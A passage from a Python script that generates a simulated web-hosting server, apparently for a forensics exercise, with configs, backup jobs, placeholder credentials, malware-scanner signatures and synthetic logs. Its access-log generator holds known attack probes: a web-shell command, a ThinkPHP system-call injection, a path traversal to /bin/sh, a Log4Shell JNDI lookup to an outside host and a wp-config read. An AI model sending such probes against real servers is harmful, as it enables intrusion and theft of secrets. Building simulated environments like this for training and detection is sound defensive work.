    for k in range(3): w('/var/backups/mysql/%s-%s.sql.gz'%(db,ago(k).strftime('%F')),gzip.compress(("-- MariaDB dump 10.19\nCREATE DATABASE `%s`;\nDELIMITER ;;\nCREATE DEFINER=`%s`@`localhost` EVENT `clean` ON SCHEDULE EVERY 1 DAY DO DELETE FROM sessions WHERE t<NOW()-INTERVAL 7 DAY ;;\nDELIMITER ;\nINSERT INTO `posts` VALUES (1,'<script src=\"https://www.googletagmanager.com/gtag/js?id=G-%s\"></script>'),(2,'%s');\n"%(db,u,rs(8),png64())).encode()),0o600,mt=ago(k,2,30))
    w('/etc/vsftpd/users/'+u,'local_root=%s\n'%home,mt=made)
w('/usr/local/sbin/le-hook','#!/bin/sh\ncase $1 in renew) systemctl reload nginx;; esac\n',0o755)
for u,c,j in jobs: w('/var/spool/cron/crontabs/'+u,'# DO NOT EDIT THIS FILE - edit the master and reinstall.\nMAILTO=""\n%s %s\n'%(c,j),0o600,(UID[u][0],101),ago(200),dirowner=(0,101))
for k in ('key','pem'):
    a='PRIVATE KEY' if k=='key' else 'CERTIFICATE'; w('/etc/ssl/%s/ftp.hosting.example.net.%s'%('private' if k=='key' else 'certs',k),'-----BEGIN %s-----\n%s-----END %s-----\n'%(a,base64.encodebytes(rb(800)).decode(),a),0o640 if k=='key' else 0o644,mt=T('2024-05-11T10:00:00'))
w('/var/www/adminer/index.php',"<?php\n/** Adminer - Compact database management (excerpt), behind HTTP auth\n* @link https://www.adminer.org/ */\nfunction\nidf_unescape($u){if(!preg_match('~^[`\\'\"]~',$u))return$u;$Nd=substr($u,-1);return\nstr_replace($Nd.$Nd,$Nd,substr($u,1,-1));}function\nlzw_decompress($Xa){$tc=256;$Ya=8;$gb=array();$Jg=0;$Kg=0;for($t=0;$t<strlen($Xa);$t++){$Jg=($Jg<<8)+ord($Xa[$t]);$Kg+=8;}return$Jg;}if($_GET[\"file\"]==\"favicon.ico\"){header(\"Content-Type: image/x-icon\");echo\nlzw_decompress(\"\\0\\0\\0` \\0\\0\\n @\\0\");exit;}\n",0o644,mt=T('2025-06-02T09:00:00'))
w('/var/www/adminer/.htaccess','AuthType Basic\nAuthName "Adminer"\nAuthUserFile /etc/apache2/adminer.htpasswd\nRequire valid-user\n'); w('/etc/apache2/adminer.htpasswd','petra:$2y$05$%s\njonas:$2y$05$%s\n'%(rs(53),rs(53)),0o640,(0,33))
# scanners
w('/usr/local/maldetect/conf.maldet','email_alert="1"\nemail_addr="root"\nquarantine_hits="1"\nquarantine_clean="0"\nscan_clamscan="1"\n',0o640,mt=T('2024-03-03T08:00:00'))
w('/usr/local/maldetect/maldet','#!/bin/bash\n# Linux Malware Detect v1.6.5 (site build)\ninspath=/usr/local/maldetect\nsource $inspath/conf.maldet\nfind ${2:-/home} -type f -mtime -2 -print0 | xargs -0 /usr/bin/clamscan --no-summary -i >> $inspath/logs/event_log\n',0o755,mt=T('2024-03-03T08:00:00')); ln('/usr/local/maldetect/maldet','/usr/local/sbin/maldet')
w('/usr/local/maldetect/sigs/hex.dat','6576616c286261736536345f6465636f6465:{HEX}php.base64.v23au.185\n',mt=ago(1,4)); w('/usr/local/maldetect/sigs/rfxn.yara','rule eval_post { strings: $a="eval($_POST[" condition: $a }\n',mt=ago(1,4)); w('/usr/local/maldetect/logs/event_log','Oct 12 2026 03:30:11 web03 maldet(2231): {scan} scan completed on /home: files 18233, malware hits 1, cleaned hits 0\n',0o640,mt=T('2026-10-12T03:30:11'))
for n in ('banner.php.2231018','eicar.com.77120'):
    w('/usr/local/maldetect/quarantine/'+n,'<?php // old banner rotation, false positive\n$b = array("a.gif","b.gif"); echo "<img src=/".$b[array_rand($b)].">";\n' if 'php' in n else 'renamed test file of the helpdesk\n',0o000,mt=T('2026-10-12T03:29:50')); w('/usr/local/maldetect/quarantine/%s.info'%n,'# owner:group:mode:size(b):md5:atime(epoch):mtime(epoch):ctime(epoch):file(path)\n',0o640,mt=T('2026-10-12T03:29:50'))
w('/var/lib/clamav/quarantine/gallery.tpl.php.infected-fp','<?php return base64_decode("%s");\n'%png64(),0o400,(111,116),T('2025-08-01T03:10:00')); w('/var/lib/clamav/daily.cvd',b'ClamAV-VDB:28 Nov 2026 08-00 +0000:27800:2077000:90:'+rb(400),0o644,(111,116),ago(1,8))
w('/etc/cron.daily/maldet','#!/bin/bash\n[ -x /usr/local/maldetect/maldet ] && /usr/local/maldetect/maldet -a /home >/dev/null 2>&1\n',0o755,mt=T('2024-03-03T08:00:00'))
# backups
w('/root/.config/rclone/rclone.conf','[b2crypt]\ntype = crypt\nremote = b2:web03-backup\npassword = %s\n[b2]\ntype = b2\naccount = 00342%s\nkey = K003%s\n'%(rs(40),rs(16),rs(27)),0o600)
w('/usr/local/sbin/backup-web','#!/bin/bash\nset -o pipefail\nexport BORG_REPO=ssh://borg@backup.hosting.example.net:23/./web03 BORG_PASSCOMMAND="cat /root/.borg-pass" BORG_RSH="ssh -i /root/.ssh/id_borg -o BatchMode=yes"\nfor d in $(mariadb -N -e "show databases" | grep -v schema); do mariadb-dump --single-transaction $d | gzip > /var/backups/mysql/$d-$(date +%F).sql.gz; done\nfind /var/backups/mysql -mtime +3 -delete\n/usr/bin/borg create --compression zstd ::web03-{now} /etc /home /var/www /var/backups/mysql --exclude "*/cache/*"\n/usr/bin/borg prune --keep-daily 14 --keep-monthly 12\n/usr/bin/rclone sync /var/backups/mysql b2crypt:mysql --transfers 4 --bwlimit 20M\ntar czf - /etc | openssl enc -aes-256-cbc -pbkdf2 -pass file:/root/.borg-pass | curl -s -T - ftp://backup.hosting.example.net/etc-$(date +%u).tgz.enc --netrc\ncurl -fsS -m 10 --retry 5 https://hc-ping.com/6f1f3a5c-7a7e-4f2b-9d8b-0d5b9b3b7c11 > /dev/null\n',0o700,mt=T('2025-01-09T10:00:00'))
w('/root/.borg-pass',rs(40)+'\n',0o600); w('/root/.netrc','machine backup.hosting.example.net login web03 password %s\n'%rs(16),0o600); priv('/root/.ssh/id_borg','root@web03 borg',mt=T('2023-09-20T10:00:00'))
w('/etc/cron.d/backup-web','PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\n30 2 * * * root /usr/local/sbin/backup-web >/var/log/backup-web.log 2>&1\n*/5 * * * * root /usr/local/sbin/fpm-watch\n15 4 * * * root /usr/local/sbin/perm-fix\n',mt=T('2025-01-09T10:05:00'))
w('/var/log/backup-web.log','Archive name: web03-%s\nDuration: 11 minutes 4.12 seconds\n'%ago(0,2,41).strftime('%FT%T'),0o644,mt=ago(0,2,45))
w('/usr/local/sbin/fpm-watch','#!/bin/bash\n# restart the pool when it hangs\nfor s in /run/php/*.sock; do timeout 5 bash -c "exec 3<>/dev/tcp/127.0.0.1/8080" || { logger -t fpm-watch "apache does not answer"; systemctl restart apache2; }; break; done\n',0o755,mt=T('2024-08-08T12:00:00'))
w('/usr/local/sbin/perm-fix','#!/bin/bash\n# some customers chmod 777 by FTP\nfind /home/*/public_html /var/www/*/htdocs -type d -perm -o+w -exec chmod o-w {} + 2>/dev/null\nfind /home /var/www -xdev \\( -perm -4000 -o -perm -2000 \\) -type f -exec chmod ug-s {} +\n',0o755,mt=T('2024-08-08T12:00:00'))
w('/etc/sudoers.d/support','support ALL=(root) NOPASSWD: /usr/local/sbin/maldet, /usr/bin/systemctl reload php8.2-fpm, /usr/bin/tail -n * /var/log/*\n%sudo ALL=(ALL:ALL) ALL\n',0o440,mt=T('2024-02-05T13:45:00'))
w('/etc/ssh/sshd_config.d/20-hosting.conf','Match Group sftponly\n  ChrootDirectory %h\n  ForceCommand internal-sftp -u 0022\n  AllowTcpForwarding no\nMatch Address 198.51.100.0/24,10.20.0.0/16\n  PasswordAuthentication yes\n',mt=T('2023-09-20T10:00:00'))
P1,f1=pub('petra@nb-14'); P2,f2=pub('petra@home'); J1,j1=pub('jonas@desk','ssh-rsa'); B1,b1=pub('root@backup')
akeys('petra',[P1,P2]); akeys('jonas',[J1]); akeys('root',['from="10.20.0.50",command="/usr/bin/rsync --server --sender -logDtpre.iLsfxCIvu . /etc /home",no-pty,no-port-forwarding '+B1,P1])
office=['198.51.100.7','198.51.100.9']
routine('petra',office+['203.0.113.88'],f1,.8,['/usr/bin/apt update','/usr/bin/apt upgrade','/usr/bin/systemctl reload nginx','/usr/bin/nano /etc/php/8.2/fpm/pool.d/verlag.conf','/usr/bin/tail -f /var/log/nginx/error.log','/usr/bin/chown -R foto:foto /var/www/foto-berger.example/htdocs','/bin/bash'])
routine('jonas',office,'RSA:'+j1,.5,['/usr/bin/grep -rl base64_decode /home /var/www','/usr/local/sbin/maldet -a /home','/usr/bin/systemctl restart mariadb','/usr/bin/find / -perm -4000','-i'.replace('-i','/bin/bash')])
routine('support',office,'password',.6,['/usr/bin/systemctl reload php8.2-fpm','/usr/local/sbin/maldet -r /var/www 2'])
d=pmonth
while d<NOW: session('root',d.replace(hour=1,minute=17,second=3),3,'10.20.0.50',b1,tty=False); d+=DAY
noise(90); cronlines([(2,30,'root','/usr/local/sbin/backup-web >/var/log/backup-web.log 2>&1'),(4,15,'root','/usr/local/sbin/perm-fix'),(None,17,'root','cd / && run-parts --report /etc/cron.hourly')]+[(None,15*(k%4),u,j) for k,(u,c,j) in enumerate(jobs[:4])])
hist='grep -rnw "base64_decode(" /home/*/public_html --include=*.php | less\nfind /var/www -name "*.php" -mtime -1\nmaldet -q 2231\nmysql -e "show processlist"\ntail -f /var/log/nginx/access.log | grep POST\nchattr +i /home/baeckerei/public_html/wp-config.php\nchattr -i /home/baeckerei/public_html/wp-config.php\niptables -L -n\nkill -9 22119\nwget https://downloads.wordpress.org/release/wordpress-6.8.3.zip -P /tmp\ncurl -s https://api.wordpress.org/core/version-check/1.7/ | head\nrm -rf /tmp/wordpress*\n'
w('/root/.bash_history',hist,0o600,mt=ago(2)); w('/home/petra/.bash_history','sudo apt update\nsudo -s\nssh backup\nhistory\n',0o600,UID['petra'],ago(1)); w('/home/jonas/.bash_history','sudo bash\nphp -r "echo base64_decode(\'aGFsbG8=\');"\nsudo maldet -a /home\n',0o600,UID['jonas'],ago(3))
w('/tmp/wordpress-6.8.3.zip',b'PK\3\4'+rb(3000),0o644,mt=ago(9)); w('/tmp/php8.2-opcache-lock.'+rs(6),'',0o600,(33,33),ago(20)); mkdir('/srv/ftp',(0,117))
# web, ftp, mail, fail2ban logs
acc=Log('/var/log/nginx/access.log','daily',14,(33,4)); err=Log('/var/log/nginx/error.log','daily',14,(33,4)); ftp=Log('/var/log/vsftpd.log','weekly',4,(0,4)); ml=Log('/var/log/mail.log'); f2=Log('/var/log/fail2ban.log','weekly',4,(0,4)); ax=Log('/var/log/clamav/freshclam.log','weekly',4,(111,4))
w('/etc/logrotate.d/hosting','/var/log/vsftpd.log /var/log/clamav/freshclam.log {\n\tweekly\n\trotate 4\n\tcompress\n\tdelaycompress\n\tmissingok\n}\n')
UA=['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/141.0 Safari/537.36','Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15','Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)','facebookexternalhit/1.1']
SC=[('/wp-login.php',200,'POST'),('/xmlrpc.php',403,'POST'),('/.env',404,'GET'),('/.git/config',404,'GET'),('/wp-content/uploads/shell.php?cmd=id',404,'GET'),('/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',404,'POST'),('/c99.php',404,'GET'),('/alfa.php',404,'POST'),('/index.php?s=/Index/\\x5Cthink\\x5Capp/invokefunction&function=call_user_func_array&vars[0]=system',403,'GET'),('/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh',400,'POST'),('/?x=${jndi:ldap://45.83.64.1/a}',403,'GET'),('/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php',403,'GET'),('/adminer.php',404,'GET'),('/boaform/admin/formLogin',404,'POST')]
d=NOW.replace(hour=0,minute=0,second=10)-14*DAY
while d<NOW:
    for _ in range(420):
        t=d+D.timedelta(seconds=random.uniform(0,86370)); ts=t.strftime('%d/%b/%Y:%H:%M:%S +0000')
        if random.random()<.3:
            pa,c,me=random.choice(SC); ip=random.choice(SCAN); acc.add(t,'%s - - [%s] "%s %s HTTP/1.1" %d %d "-" "%s"'%(ip,ts,me,pa,c,random.randint(150,4200) if c==200 else 162,random.choice(UA+['python-requests/2.32','Go-http-client/1.1','zgrab/0.x','sqlmap/1.8'])))
            if c==404 and random.random()<.2: err.add(t,'%s [error] 911#911: *%d access forbidden by rule, client: %s, server: %s, request: "%s %s HTTP/1.1"'%(t.strftime('%Y/%m/%d %H:%M:%S'),random.randint(1000,99999),ip,random.choice(CUST)[1],me,pa))
        else:
            pa,me=random.choice([('/','GET'),('/galerie','GET'),('/wp-content/uploads/2024/01/img-0.jpg','GET'),('/mailer.php','POST'),('/wp-admin/admin-ajax.php','POST'),('/thumb.php?src=https://upload.wikimedia.org/a.jpg','GET'),('/wp-cron.php?doing_wp_cron=17.2','POST'),('/index.php?seite=termine','GET'),('/webmail/?_task=mail&_action=refresh','POST'),('/intern/dateimanager.php?p=','GET')]); acc.add(t,'84.%d.%d.%d - - [%s] "%s %s HTTP/2.0" %d %d "https://www.google.com/" "%s"'%(random.randint(100,190),random.randint(1,250),random.randint(1,250),ts,me,pa,302 if pa=='/mailer.php' else 200,random.randint(400,60000),random.choice(UA)))
    d+=DAY
d=WEEK0+DAY*0
while d<NOW:
    for _ in range(14):
        t=d+D.timedelta(seconds=random.uniform(10,86000)); u=random.choice(CUST)[0]; ts=t.strftime('%a %b %e %H:%M:%S %Y')
        if random.random()<.4: ftp.add(t,'%s [pid %d] [admin] FAIL LOGIN: Client "%s"'%(ts,pid(t),random.choice(SCAN)))
        else:
            ip='84.112.%d.9'%(ord(u[0])); ftp.add(t,'%s [pid %d] [%s] OK LOGIN: Client "%s"'%(ts,pid(t),u,ip)); t2=t+D.timedelta(seconds=9); ftp.add(t2,'%s [pid %d] [%s] OK UPLOAD: Client "%s", "/dateien/plan%d.pdf", %d bytes, 812.11Kbyte/sec'%(t2.strftime('%a %b %e %H:%M:%S %Y'),pid(t),u,ip,random.randint(1,99),random.randint(9999,999999)))
        t=d+D.timedelta(seconds=random.uniform(10,86000)); f2.add(t,'%s,%03d fail2ban.actions        [702]: NOTICE  [sshd] Ban %s'%(t.strftime('%F %T'),random.randint(0,999),random.choice(SCAN)))
    t=d+D.timedelta(hours=8); ax.add(t,t.strftime('%a %b %e %H:%M:%S %Y')+' -> daily.cvd database is up-to-date (version: 27800, sigs: 2077000, f-level: 90, builder: raynman)')
    t=d+D.timedelta(hours=5); ml.sys(t,'freshclam[688]','Received signal: wake up'); d+=DAY
wrapup()
PYEOF
